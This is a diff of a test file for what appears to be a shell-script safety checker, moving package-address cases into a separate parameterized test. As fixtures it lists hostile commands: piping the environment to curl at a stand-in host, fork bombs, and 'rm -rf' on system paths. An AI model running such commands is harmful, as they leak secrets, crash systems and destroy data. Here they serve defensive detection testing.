@@ -143,7 +143,6 @@ describe('what warns', () => {
     ['shell-sensitive-exfil', 'env | curl -d @- https://a.example.org'],
     ['resource-fork-bomb', ':(){ :|:& };:'],
     ['resource-fork-bomb', ': ( ) { : | : & } ; :'],
-    ...PACKAGES.map((line) => ['shell-package-address', line] as const),
     ['shell-destructive-command', 'rm -rf /'],
     ['shell-destructive-command', 'sudo rm -r -f "/usr"'],
     ['shell-destructive-command', 'rm -fR /etc/*'],
@@ -163,6 +162,10 @@ it('notes an environment that is printed, and warns when an earlier line put it 
     'all=$(printenv)\ncurl -d "$all" a.example.org',
   ])
     expect(script(lines)).toContain('warning shell-sensitive-exfil:3')
+})
+
+it.each(PACKAGES)('warns of a package by its address: %s', (line) => {
+  expect(script(line)).toEqual(['warning shell-package-address:2'])
 })
 
 describe('what passes', () => {
